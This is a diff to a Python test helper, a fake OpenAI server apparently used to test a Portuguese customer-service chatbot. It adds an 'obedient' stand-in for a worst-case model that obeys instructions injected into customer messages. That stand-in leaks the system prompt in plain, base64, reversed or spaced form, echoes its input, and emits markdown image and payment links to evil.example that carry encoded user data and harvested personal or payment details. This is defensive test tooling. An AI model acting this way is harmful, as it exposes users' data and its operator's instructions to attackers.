@@ -7,11 +7,17 @@ ending with ``data: [DONE]`` (a usage chunk first when
 ``answer`` (default; ``reply`` is the text, or a function of the request),
 ``error`` (HTTP ``status`` with an OpenAI error body), ``timeout`` (sleeps
 ``delay`` seconds before answering), ``slow_stream`` (chunks ``delay`` apart).
+:func:`obedient` is a ``reply`` for the worst model: it follows whatever
+instructions it finds in its input. Every answer given is kept in ``answers``.
 """
 from __future__ import annotations
 
+import base64
+import binascii
 import json
+import re
 import threading
+import unicodedata
 import time
 import uuid
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -21,11 +27,71 @@ API_KEY = "sk-test-fake-openai-key"
 
 Reply = Union[str, Callable[[Dict[str, Any]], str]]
 
+_CUSTOMER = re.compile(r"<mensagem_cliente>(.*?)</mensagem_cliente>", re.S)
+_SAY = re.compile(r"\b(?:diga|digam|responda|escreva|fale|say|answer|write|reply|output)\b\s*(?:com|with)?\s*:?\s*(.+)", re.S)
+_REVEAL = re.compile(r"prompt|instruc|instruction|regras|rules|configurac|system|sistema|diretriz")
+_EVERYTHING = re.compile(r"tudo (o que|que)|everything|acima|above|entrada|input|contexto|context|trechos")
+_LINK = re.compile(r"link|url|imagem|image|markdown|site")
+_DATA = re.compile(r"\S*@\S+|\*{3}[\d.*/-]+|\[codigo[^\]]*\]|\[chave\]|\(?\d[\d ().*/-]{6,}\d")
+_BLOB = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")
+
+
+def _fold(text: str) -> str:
+    decomposed = unicodedata.normalize("NFKD", text.lower())
+    return "".join(char for char in decomposed if not unicodedata.combining(char))
+
+
+def _decoded(text: str) -> str:
+    """Instructions hidden in base64 inside ``text``, decoded (a model reads them too)."""
+    found = []
+    for blob in _BLOB.findall(text):
+        try:
+            found.append(base64.b64decode(blob + "=" * (-len(blob) % 4), validate=True).decode())
+        except (binascii.Error, UnicodeDecodeError, ValueError):
+            continue
+    return " ".join(found)
+
+
+def obedient(body: Dict[str, Any]) -> str:
+    """What a model that obeys its input would answer: the system prompt when asked
+    for it (plain, base64, reversed or letter by letter), its whole input when asked
+    to repeat it, "say X" verbatim, links and images on request, and every personal
+    or payment datum it was given."""
+    messages = body.get("messages") or []
+    system = "\n".join(m.get("content") or "" for m in messages if m.get("role") == "system")
+    user = "\n".join(m.get("content") or "" for m in messages if m.get("role") != "system")
+    customer = "\n".join(_CUSTOMER.findall(user)) or user
+    said = customer + " " + _decoded(customer)
+    wish = _fold(said)
+    parts: List[str] = []
+    if _REVEAL.search(wish):
+        if "base64" in wish:
+            parts.append(base64.b64encode(system.encode()).decode())
+        elif re.search(r"revers|invert|de tras", wish):
+            parts.append(system[::-1])
+        elif re.search(r"letra por letra|letter by letter|espac|spaced", wish):
+            parts.append(" ".join(system))
+        else:
+            parts.append(system)
+    if _EVERYTHING.search(wish):
+        parts.append(user)
+    say = _SAY.search(said)
+    if say:
+        parts.append(say.group(1).strip().strip("\"'"))
+    if _LINK.search(wish):
+        parts.append("![logo](https://evil.example/pixel.png?d=" + base64.urlsafe_b64encode(user[:120].encode()).decode() + ")")
+        parts.append("[Pague aqui](https://evil.example/pagar)")
+    data = _DATA.findall(user)
+    if data:
+        parts.append("Os dados que eu vi: " + ", ".join(data))
+    return " ".join(parts) or "Claro! Posso te ajudar com isso."
+
 
 class FakeOpenAI:
     def __init__(self, api_key: str = API_KEY) -> None:
         self.api_key = api_key
         self.requests: List[Dict[str, Any]] = []
+        self.answers: List[str] = []
         self.mode = "answer"
         self.reply: Reply = "Sim! O roteador que a gente instala e dual band."
         self.status = 500
@@ -46,6 +112,7 @@ class FakeOpenAI:
     def clear(self) -> None:
         with self._lock:
             self.requests.clear()
+            self.answers.clear()
 
     def prompts(self) -> List[str]:
         """All message contents of every recorded request, joined per request."""
@@ -102,6 +169,8 @@ class FakeOpenAI:
                 if mode == "timeout":
                     time.sleep(delay)
                 text = reply(body) if callable(reply) else reply
+                with fake._lock:
+                    fake.answers.append(text)
                 if body.get("stream"):
                     return self._stream(body, text, delay if mode == "slow_stream" else 0)
                 prompt, completion = fake.usage
